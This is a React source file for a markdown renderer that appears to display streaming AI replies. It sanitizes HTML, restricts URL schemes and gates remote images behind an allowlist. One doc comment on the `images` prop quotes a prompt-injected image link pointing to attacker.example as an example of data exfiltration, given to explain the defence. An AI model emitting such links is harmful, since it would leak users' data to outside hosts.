'use client';

import { Fragment, memo, Suspense, useMemo, type ReactElement } from 'react';
import { InlineCode } from './InlineCode';
import { MarkdownImage } from './MarkdownImage';
import { MarkdownPre } from './MarkdownPre';
import type { ImagePolicy } from './imagePolicy';
import { mathPlugin } from './math';
import { MarkdownFeaturesContext, type MarkdownFeatures } from './markdownFeatures';
import { hastToReact } from './hastToReact';
import type { HtmlCleaner, MathSupport, PluginRun, SyntaxSupport } from './parse/markdownToHast';
import { onDemand } from './onDemand';
import type { Components, PluginList } from './markdownTypes';
import { repairTail } from './parse/repairTail';
import { splitBlocks } from './parse/splitBlocks';

export interface MarkdownProps {
  children: string;
  className?: string;
  /** Replace how elements render (e.g. `a`, `code`). They receive already-filtered URLs. */
  components?: Components;
  /** remark plugins, run after the built-in GFM and math parsing (their runner loads on first use). */
  remarkPlugins?: PluginList;
  /** rehype plugins, run after the HTML sanitizer (their runner loads on first use). */
  rehypePlugins?: PluginList;
  /**
   * Render raw HTML in the markdown, cleaned by hast-util-sanitize with a strict schema (no scripts,
   * event handlers, styles, iframes or unsafe URLs). Off by default: HTML shows as literal text.
   * The HTML parser and sanitizer load on first use.
   */
  allowHtml?: boolean;
  /**
   * The text is still arriving: its unfinished end renders as it will look once complete (an open
   * `**` or code span closed, a link whose URL is still arriving shown as its text).
   */
  streaming?: boolean;
  /**
   * Render `$…$`, `$$…$$`, `\(…\)`, `\[…\]` and ```math fences as formulas: the math parser loads
   * when a text first has `$`, `\(` or `\[`, KaTeX with its stylesheet when the first formula
   * appears. Default true; false leaves dollar signs as text and ```math fences as code.
   */
  math?: boolean;
  /**
   * Colour fenced code by its language with Shiki, loaded (with only the grammars used) when the
   * first code block appears. Default true; false shows code plain.
   */
  highlight?: boolean;
  /**
   * Draw ```mermaid fences as diagrams once the fence has closed (its source shows while it
   * streams), with mermaid's strict security level; mermaid loads with the first diagram. A toggle
   * shows the source; a diagram that does not parse shows its source and the parser's message.
   * False leaves them as code.
   * @default true
   */
  diagrams?: boolean;
  /**
   * Where images may load from on their own. Without it every http(s) image loads as it renders;
   * with it, an image from anywhere else shows as a button naming its host, and loads on the
   * user's click, so a prompt-injected `![](https://attacker.example/?q=…)` leaks nothing by
   * itself. See the security guide.
   * @default undefined (every http(s) image loads)
   */
  images?: ImagePolicy;
}

interface BlockProps {
  text: string;
  parser: Parser;
  math: MathSupport | undefined;
  gfm: SyntaxSupport | undefined;
  html: HtmlCleaner | undefined;
  plugins: PluginRun | undefined;
  components: Components;
}

/** One top-level block; a finished block's text no longer changes, so it is not parsed again. */
const MarkdownBlock = memo(function MarkdownBlock({ text, parser, gfm, math, html, plugins, components }: BlockProps) {
  return hastToReact(parser.markdownToHast(text, { gfm, math, html, plugins }), components);
});

type Parser = typeof import('./parse/markdownToHast');
/**
 * The CommonMark parser (micromark, mdast → hast): the biggest part of the renderer, so not in the
 * entry chunk. A render that needs it before it has loaded suspends: the text shows as written for
 * that moment, a streaming server render waits for it, and hydration keeps the server's HTML.
 */
const coreParser = onDemand(() => import('./parse/markdownToHast'));
// Fetched as soon as the renderer is imported, alongside the app's own start-up, so a first render
// rarely has to wait for it (and a server has it before its first request).
coreParser.load().catch(() => undefined);

/** Resolves once the CommonMark parser has loaded (the test suite waits for it before each file). */
export function loadMarkdownParser(): Promise<unknown> {
  return coreParser.load();
}

const gfmParser = onDemand(() => import('./parse/gfmSupport').then((module) => module.gfmSupport));
/** Text that may use GFM: a table or strikethrough, a task box or footnote, a bare URL or email. */
const MAY_USE_GFM = /[|~@]|\[[ \txX^]|:\/\/|www\./i;

const PLAIN = { whiteSpace: 'pre-wrap' } as const;
const pluginRunner = onDemand(() => import('./parse/pluginRun'));
const htmlCleaner = onDemand(() => import('./parse/htmlCleaner').then((module) => module.cleanHtml));

/**
 * Loads the parts of the markdown renderer that otherwise load on first use (the runner for an
 * app's remark/rehype plugins, the `allowHtml` sanitizer, the GFM and math parsers), so the
 * first render already uses them: in tests, or early in a client-only app to skip the one-time
 * re-render as they arrive. With server rendering, call it on both sides or on neither: await it on
 * the server before rendering and on the client before hydrating, so both render the same. (Formulas are always text on the server and while hydrating; KaTeX
 * loads with the first formula shown.)
 */
export async function preloadMarkdown(): Promise<void> {
  await Promise.all([
    coreParser.preload(),
    pluginRunner.preload(),
    htmlCleaner.preload(),
    gfmParser.preload(),
    mathPlugin.parser.preload(),
  ]);
}

/**
 * Renders markdown safely: GFM on; raw HTML shown as literal text unless `allowHtml` (then
 * sanitized); link and image URLs limited to safe schemes, so no `javascript:` or `data:` URL ever
 * reaches the DOM, whatever `components` do. The text is rendered block by block, so while a reply
 * streams only its last block is parsed again; the result is the same DOM as parsing it whole.
 */
export const Markdown = memo(function Markdown({
  children,
  className,
  components,
  remarkPlugins,
  rehypePlugins,
  allowHtml = false,
  streaming = false,
  math = true,
  highlight = true,
  diagrams = true,
  images: imagesProp,
}: MarkdownProps) {
  // Apps often write the policy inline; one that says the same keeps every block memoised.
  const imagesKey = imagesProp ? JSON.stringify(imagesProp) : '';
  // eslint-disable-next-line react-hooks/exhaustive-deps
  const images = useMemo(() => imagesProp, [imagesKey]);
  const html = htmlCleaner.use(allowHtml, allowHtml);
  const mathSupport = mathPlugin.parser.use(math, () => mathPlugin.mayHaveMath(children));
  const gfm = gfmParser.use(true, () => MAY_USE_GFM.test(children));
  const hasPlugins = Boolean(remarkPlugins?.length || rehypePlugins?.length);
  const runner = pluginRunner.use(hasPlugins, hasPlugins);
  const plugins = useMemo(() => runner?.createPluginRun(remarkPlugins ?? [], rehypePlugins ?? []), [runner, remarkPlugins, rehypePlugins]);
  // Code blocks get a header with the language and a Copy button unless the app renders `pre`;
  // `code` stays ours (it renders inline math) and hands everything else to the app's `code`.
  const merged = useMemo(
    () => ({ ...components, pre: MarkdownPre, code: InlineCode, ...(images ? { img: MarkdownImage } : undefined) }),
    [components, images],
  );
  const userCode = components?.code;
  const userPre = components?.pre;
  const userImg = components?.img;
  const features = useMemo<MarkdownFeatures>(
    () => ({
      math,
      highlight,
      diagrams,
      streaming: false,
      code: userCode,
      pre: userPre,
      images,
      img: userImg,
    }),
    [math, highlight, diagrams, userCode, userPre, images, userImg],
  );
  // Only the last block is still arriving; the others are final even while the reply streams.
  const tailFeatures = useMemo<MarkdownFeatures>(() => ({ ...features, streaming }), [features, streaming]);
  // The app's plugins may filter what reaches the page (strip images, say): until their runner has
  // loaded (once per page), the text shows as plain text, never as markdown without them.
  const plain = (
    <div className={className} style={PLAIN}>
      {children}
    </div>
  );
  if (hasPlugins && !plugins) return plain;
  return (
    <Suspense fallback={plain}>
      <MarkdownBlocks
        text={children}
        className={className}
        allowHtml={allowHtml}
        streaming={streaming}
        features={features}
        tailFeatures={tailFeatures}
        fallback={plain}
        block={{ math: mathSupport, gfm, html, plugins, components: merged }}
      />
    </Suspense>
  );
});

interface MarkdownBlocksProps {
  text: string;
  className: string | undefined;
  allowHtml: boolean;
  streaming: boolean;
  features: MarkdownFeatures;
  tailFeatures: MarkdownFeatures;
  /** Shown when the parser could not be loaded. */
  fallback: ReactElement;
  block: Omit<BlockProps, 'text' | 'parser'>;
}

/** The text, block by block; suspends until the parser has loaded. */
function MarkdownBlocks({ text, className, allowHtml, streaming, features, tailFeatures, fallback, block }: MarkdownBlocksProps) {
  const parser = coreParser.read();
  if (!parser) return fallback;
  const blocks = splitBlocks(text, allowHtml);
  const last = blocks.length - 1;
  return (
    <div className={className}>
      {blocks.map((part, index) => (
        <Fragment key={index}>
          {/* A whole-document parse puts a newline between top-level blocks; so do we. */}
          {index > 0 && '\n'}
          <MarkdownFeaturesContext.Provider value={index === last ? tailFeatures : features}>
            <MarkdownBlock {...block} parser={parser} text={streaming && index === last ? repairTail(part) : part} />
          </MarkdownFeaturesContext.Provider>
        </Fragment>
      ))}
    </div>
  );
}
